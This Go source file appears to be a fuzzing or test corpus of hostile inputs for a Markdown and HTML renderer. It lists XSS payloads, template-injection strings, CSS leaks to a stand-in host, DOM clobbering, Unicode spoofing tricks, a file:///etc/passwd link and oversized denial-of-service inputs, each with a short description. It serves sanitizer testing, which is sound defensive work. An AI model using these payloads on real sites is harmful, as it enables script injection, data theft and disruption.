package attacks

import "strings"

var addresses = []Attack{
	{"link-html", `<a href="javascript:alert(1)">click</a>`, "run a script when it is clicked"},
	{"link-entity", `<a href="&#106;avascript:alert(1)">click</a>`, "run a script whose address is written as entities"},
	{"link-tab", "<a href=\"java\tscript:alert(1)\">click</a>", "run a script whose address holds a tab, which browsers leave out"},
	{"link-data", `<a href="data:text/html,<script>alert(1)</script>">click</a>`, "open a page that is its own address"},
	{"link-vbscript", `<a href="vbscript:msgbox(1)">click</a>`, "run a script of another language"},
	{"bare-script", `javascript:alert(1)`, "become a link that runs a script"},
	{"bare-data", `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, "become a link to a page of its own"},
}

var markdown = []Attack{
	{"md-link", `[click](javascript:alert(1))`, "run a script when it is clicked"},
	{"md-link-case", `[click](JaVaScRiPt:alert(1))`, "run a script where only small letters are looked for"},
	{"md-link-entity", `[click](&#x6A;avascript&colon;alert&lpar;1&rpar;)`, "run a script whose address is written as entities"},
	{"md-link-newline", "[click](<java\tscript:alert(1)>)", "run a script whose address holds a tab"},
	{"md-link-control", "[click](\x01javascript:alert(1))", "run a script whose address begins with what browsers leave out"},
	{"md-link-escaped", `[click](javascript\:alert\(1\))`, "run a script whose address is escaped"},
	{"md-link-percent", `[click](javascript%3Aalert(1))`, "run a script whose address is encoded"},
	{"md-link-data", `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`, "open a page that is its own address"},
	{"md-link-file", `[click](file:///etc/passwd)`, "open a file of the reader"},
	{"md-link-own", `[click](/vote?choice=1)`, "lead to a place of the viewer itself"},
	{"md-link-title", `[click](https://example.org "\" onmouseover=alert(1) x=\"")`, "leave the title of a link"},
	{"md-link-quote", `[click](https://example.org/"onmouseover="alert(1))`, "leave the address of a link"},
	{"md-link-user", `[bank](https://bank.example@attacks.invalid/)`, "look like a link to somebody else"},
	{"md-link-html", `[<img src=x onerror=alert(1)>](https://example.org)`, "run a script from the text of a link"},
	{"md-reference", "[click][x]\n\n[x]: javascript:alert(1)", "run a script that is defined elsewhere"},
	{"md-autolink", `<javascript:alert(1)>`, "run a script when it is clicked"},
	{"md-autolink-quote", `https://example.org/"onmouseover=alert(1)//`, "leave the address of a link that nobody wrote as one"},
	{"md-image", `![pixel](//attacks.invalid/pixel.png)`, "tell elsewhere that the text was read"},
	{"md-image-script", `![x](javascript:alert(1))`, "run a script as an image"},
	{"md-image-alt", `![x" onerror="alert(1)](x)`, "leave the words for an image"},
	{"md-image-data", `![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>)`, "run a script of a picture that is an address"},
	{"md-fence-class", "```\"><script>alert(1)</script>\nx\n```", "leave the name of a language"},
	{"md-fence-style", "```x style=position:fixed onclick=alert(1)\nx\n```", "add attributes to code"},
	{"md-heading-id", "# Vote {#vote onclick=alert(1)}\n\n## x {.main}", "give a heading an id and a class of the page"},
	{"md-html-block", "<div>\n\n**bold**\n\n<script>alert(1)</script>\n\n</div>", "run a script from a block of HTML"},
	{"md-html-comment", "<!-- \n\n--> <img src=x onerror=alert(1)>", "run a script behind a comment"},
	{"md-code-end", "`x</code><img src=x onerror=alert(1)>`", "leave a piece of code"},
	{"md-table", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "run a script from a table"},
	{"md-footnote", "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x", "run a script from a note"},
	{"md-emphasis", `*<script>*alert(1)*</script>*`, "run a script across marks"},
}

var templates = []Attack{
	{"template-go", `{{define "main"}}{{.}}{{end}}{{html "x"}}`, "be a template of ours"},
	{"template-go-break", `{{printf "%s" "<script>alert(1)</script>"}}`, "write a script from a template"},
	{"template-js", "${alert(1)}`;alert(1)//", "be a template of a script"},
	{"template-client", `{{constructor.constructor('alert(1)')()}}`, "run in templates of a framework"},
	{"template-erb", `<%= alert(1) %><? echo 1 ?>`, "run on a server of another kind"},
	{"absent", `" href="#-" onmouseover="alert(1)`, "use what a report takes out of itself"},
	{"format", `%s%n%!d(string=x)%00`, "be a format"},
}

var styles = []Attack{
	{"css-import", `<style>@import url(//attacks.invalid/x.css);</style>`, "load a stylesheet from elsewhere"},
	{"css-fixed", `<p style="position:fixed;inset:0;background:url(//attacks.invalid/x)">x</p>`, "lie over the whole page"},
	{"css-leak", `<style>input[value^="a"]{background:url(//attacks.invalid/a)}</style>`, "tell elsewhere what a field holds"},
	{"css-expression", `<p style="width:expression(alert(1));behavior:url(#x)">x</p>`, "run a script as a width"},
	{"css-class", `<p class="main hidden elsewhere button">x</p>`, "look like a part of the page"},
}

var clobbering = []Attack{
	{"clobber-id", `<a id=main></a><form id=vote name=cookie></form>`, "take the place of an element of ours"},
	{"clobber-collection", `<a id=config></a><a id=config name=url href="//attacks.invalid/"></a>`, "take the place of a variable of a script"},
	{"clobber-token", `<meta name="token" content="attacked">`, "give scripts of ours another token"},
	{"clobber-form", `<form><input name=attributes><input name=innerHTML></form>`, "hide properties from a filter"},
	{"clobber-prototype", `__proto__`, "be a key of every object"},
	{"clobber-constructor", `constructor`, "be a key of every object"},
}

var unicode = []Attack{
	{"bidi-override", "This is \u202Eti esrever\u202C text", "turn the direction of what follows"},
	{"bidi-unclosed", "Alpha \u202E", "turn the rest of the line around"},
	{"bidi-isolate", "access\u2066 = user\u2069 \u2067admin", "show words in another order than they have"},
	{"null", "<scr\x00ipt>alert(1)</scr\x00ipt>", "hide a tag from a filter with bytes that browsers leave out"},
	{"null-only", "a\x00b", "end a text early"},
	{"controls", "\x1b[31mred\x1b]0;attacked\x07\x08\x7f\u009b31m", "command a terminal"},
	{"carriage", "good\rbad\x0b\x0c", "write over a line"},
	{"overlong", "\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe", "be < in bytes that no reader should take"},
	{"utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "be < in another encoding"},
	{"surrogate", "\xed\xa0\x80 lone \xed\xb0\x80", "be half a character"},
	{"fullwidth", "＜script＞alert(1)＜/script＞", "become < when it is made simple"},
	{"tag-letters", "\U000E0073\U000E0063\U000E0072 hidden \U000E0069", "hold words that nobody sees"},
	{"zero-width", "al\u200Bpha\uFEFF\u2060", "look like another name"},
	{"combining", "Z" + strings.Repeat("\u0335\u0310\u0360", 40), "paint over the lines around"},
	{"entity", "&lt;script&gt;alert(1)&lt;/script&gt; &#x202e; &#0; &Tab;", "become a tag when it is unescaped twice"},
	{"homograph", "Аlрhа", "look like another name"},
}

// large are those that are meant to take long or to break a page by their size.
func large() []Attack {
	return []Attack{
		{"long-word", strings.Repeat("W", 20_000), "make the page wider than any window"},
		{"deep-quotes", strings.Repeat(">", 30_000) + "x", "take all of the stack"},
		{"deep-lists", strings.Repeat("- ", 15_000) + "x", "take all of the stack"},
		{"deep-brackets", strings.Repeat("[", 100_000), "take a time that grows with the square"},
		{"deep-links", strings.Repeat("[a](", 12_000), "take a time that grows with the square"},
		{"deep-emphasis", strings.Repeat("*a_", 20_000), "take a time that grows with the square"},
		{"deep-tags", strings.Repeat("<div>", 10_000), "take all of the stack of a browser"},
		{"wide-table", "|" + strings.Repeat("a|", 3000) + "\n|" + strings.Repeat("-|", 3000) + "\n" + strings.Repeat("a\n", 3000), "become millions of cells"},
		{"many-lines", strings.Repeat("x\n", 20_000), "make a page of many screens"},
	}
}
